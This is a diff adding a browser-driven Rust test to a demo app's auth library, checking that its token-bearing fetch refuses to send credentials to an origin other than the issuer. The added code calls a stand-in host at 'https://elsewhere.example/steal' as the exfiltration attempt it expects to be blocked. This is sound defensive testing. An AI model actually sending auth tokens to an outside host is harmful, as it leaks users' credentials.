@@ -156,6 +156,21 @@ async fn the_demo_spa_logs_in_refreshes_silently_and_logs_out_in_chromium() {
         .await
         .unwrap();
     wait_text(&page, "result", |t| t.contains("\"username\":\"alice\"")).await;
+    // The token goes to the issuer (and listed API origins) only, never to another origin.
+    let elsewhere = page
+        .execute_async(
+            "const done = arguments[0];
+             window.latchkeyDemo.auth.fetch('https://elsewhere.example/steal')
+               .then(() => done('sent'), (e) => done('refused: ' + e.message));",
+            vec![],
+        )
+        .await
+        .unwrap();
+    let elsewhere = elsewhere.as_str().unwrap();
+    assert!(
+        elsewhere.starts_with("refused:") && elsewhere.contains("https://elsewhere.example"),
+        "{elsewhere}"
+    );
 
     // A second tab: the cookie logs it in. Both refresh at the same instant; both stay in.
     let first_tab = page.window().await.unwrap();
